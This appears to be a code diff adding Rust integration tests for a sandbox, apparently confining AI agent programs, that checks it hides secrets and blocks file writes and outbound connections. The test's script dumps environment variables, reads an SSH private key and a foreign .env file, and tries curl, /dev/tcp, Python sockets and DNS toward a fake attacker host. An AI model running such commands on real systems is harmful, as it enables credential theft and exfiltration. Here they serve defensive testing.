@@ -281,3 +281,154 @@ fn a_host_in_net_that_is_not_one_is_refused_at_load() {
     assert!(out.contains("agent[0].net[0]"), "{out}");
     assert!(out.contains("is not a host name or an address"), "{out}");
 }
+
+/// `loopward contain` in `dir`, with a home of the test's own holding an SSH key.
+fn contain(dir: &Path, home: &Path, args: &[&str]) -> Output {
+    let mut all = vec!["contain", "--agent", "builder", "--id", "s1", "--"];
+    all.extend_from_slice(args);
+    let home = home.to_str().unwrap();
+    loopward(
+        dir,
+        &all,
+        &[
+            ("SECRET_TOKEN", SECRET),
+            ("OPENAI_API_KEY", "sk-user-key-that-must-stay-out"),
+            ("HOME", home),
+        ],
+    )
+}
+
+#[test]
+fn a_contained_program_is_held_to_files_reads_environment_and_network_and_its_egress_is_in_the_ledger(
+) {
+    let (good, _) = http_server("127.0.0.1", "hello-from-allowed");
+    let (evil, evil_hits) = http_server("127.0.0.2", "attacker-got-it");
+    let dir = project("[[agents.builder]]\ntext = \"done\"\n");
+    let d = dir.path();
+    with_net(
+        d,
+        "[\"127.0.0.1\"]",
+        "[[territory]]\npaths = [\"plan.md\"]\nowner = \"planner\"\n",
+    );
+    let cfg = d.join("loopward.toml");
+    let t = std::fs::read_to_string(&cfg).unwrap();
+    std::fs::write(
+        &cfg,
+        format!("{t}\n[[agent]]\nname = \"planner\"\ntools = [\"shell\"]\n"),
+    )
+    .unwrap();
+    std::fs::write(d.join("plan.md"), "the plan\n").unwrap();
+    std::fs::create_dir(d.join("src")).unwrap();
+    let home = tempfile::tempdir().unwrap();
+    std::fs::create_dir(home.path().join(".ssh")).unwrap();
+    std::fs::write(home.path().join(".ssh/id_ed25519"), "PRIVATE-KEY-BYTES").unwrap();
+    let other = tempfile::tempdir().unwrap();
+    std::fs::write(other.path().join(".env"), "OTHER=leaked-from-next-door").unwrap();
+    let script = format!(
+        "env; cat /proc/self/environ | tr '\\0' '\\n'; \
+         echo hijack > plan.md; echo code > src/main.rs; \
+         cat {home}/.ssh/id_ed25519; cat {other}/.env; \
+         curl -s -m 5 http://127.0.0.1:{good}/; echo; \
+         echo 1=$(curl -s -m 5 http://127.0.0.2:{evil}/); \
+         echo 2=$(curl -s -m 5 --noproxy '*' http://127.0.0.2:{evil}/ || echo direct-failed); \
+         (exec 3<>/dev/tcp/127.0.0.2/{evil}) 2>/dev/null && echo 3=opened || echo 3=devtcp-failed; \
+         python3 -c 'import socket; socket.create_connection((\"127.0.0.2\", {evil}), 3)' 2>/dev/null && echo 4=opened || echo 4=py-failed; \
+         getent hosts leak.attacker.example >/dev/null && echo 5=resolved || echo 5=dns-failed; \
+         exit 3",
+        home = home.path().display(),
+        other = other.path().display(),
+    );
+    let out = contain(d, home.path(), &["bash", "-c", &script]);
+    let all = text(&out);
+    // The program's own exit status comes back.
+    assert_eq!(out.status.code(), Some(3), "{all}");
+    for absent in [
+        "sk-user-key-that-must-stay-out",
+        SECRET,
+        "PRIVATE-KEY-BYTES",
+        "leaked-from-next-door",
+        "attacker-got-it",
+    ] {
+        assert!(
+            !all.contains(absent),
+            "{absent} reached the program:\n{all}"
+        );
+    }
+    assert!(all.contains("plan.md: Permission denied"), "{all}");
+    assert_eq!(
+        std::fs::read_to_string(d.join("plan.md")).unwrap(),
+        "the plan\n"
+    );
+    assert_eq!(
+        std::fs::read_to_string(d.join("src/main.rs")).unwrap(),
+        "code\n"
+    );
+    assert!(all.contains("hello-from-allowed"), "{all}");
+    assert!(
+        all.contains("1=loopward egress: 127.0.0.2 is not in this agent's net allow-list"),
+        "{all}"
+    );
+    for line in [
+        "2=direct-failed",
+        "3=devtcp-failed",
+        "4=py-failed",
+        "5=dns-failed",
+    ] {
+        assert!(all.contains(line), "{line} missing:\n{all}");
+    }
+    assert_eq!(evil_hits.load(std::sync::atomic::Ordering::SeqCst), 0);
+    // The supervisor's ledger holds every egress decision, verifies, and report counts them.
+    let events = std::fs::read_to_string(d.join("runs/s1/events.jsonl")).unwrap();
+    assert!(
+        events.contains(
+            "\"kind\":\"egress_decided\",\"data\":{\"allowed\":false,\"host\":\"127.0.0.2\""
+        ),
+        "{events}"
+    );
+    assert!(events.contains("exited with status 3"), "{events}");
+    let verify = loopward(d, &["verify", "runs/s1"], &[]);
+    assert_eq!(verify.status.code(), Some(0), "{}", text(&verify));
+    let report = loopward(d, &["report"], &[]);
+    assert!(
+        text(&report).contains("egress: 1 connections allowed, 1 refused"),
+        "{}",
+        text(&report)
+    );
+}
+
+#[test]
+fn contain_refuses_bad_input_before_anything_starts() {
+    let dir = project("[[agents.builder]]\ntext = \"done\"\n");
+    let d = dir.path();
+    let home = tempfile::tempdir().unwrap();
+    // A program that is not there: 127, and no session.
+    let out = contain(d, home.path(), &["no-such-program-anywhere"]);
+    assert_eq!(out.status.code(), Some(127), "{}", text(&out));
+    assert!(
+        text(&out).contains("\"no-such-program-anywhere\" is not found"),
+        "{}",
+        text(&out)
+    );
+    assert!(!d.join("runs/s1").exists());
+    // An agent not on the team.
+    let out = loopward(
+        d,
+        &["contain", "--agent", "ghost", "--", "true"],
+        &[("SECRET_TOKEN", SECRET)],
+    );
+    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
+    assert!(
+        text(&out).contains("there is no agent ghost on the team; use one of: builder"),
+        "{}",
+        text(&out)
+    );
+    // A secret whose source is missing.
+    let out = loopward(d, &["contain", "--agent", "builder", "--", "true"], &[]);
+    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
+    assert!(
+        text(&out).contains("secrets.SECRET_TOKEN.env"),
+        "{}",
+        text(&out)
+    );
+    assert!(!d.join("runs").exists());
+}
